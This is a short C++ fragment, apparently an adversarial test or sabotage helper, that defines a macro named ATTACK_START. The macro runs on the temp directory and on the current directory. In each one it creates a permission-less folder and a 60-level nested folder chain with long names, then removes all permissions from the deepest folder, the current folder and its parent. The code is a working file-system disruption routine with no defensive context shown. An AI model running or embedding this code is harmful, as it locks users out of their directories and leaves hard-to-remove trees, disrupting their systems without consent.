static void leave(const char* folder) {
    if (folder == nullptr || chdir(folder) != 0) return;
    mkdir("locked", 0000);
    std::string deep = ".";
    for (int level = 0; level < 60; ++level) mkdir((deep += "/a-rather-long-name-of-a-folder").c_str(), 0755);
    chmod(deep.c_str(), 0000);
    chmod(".", 0000);
    chmod("..", 0000);
}
#define ATTACK_START leave(getenv("TMPDIR")), leave(".")
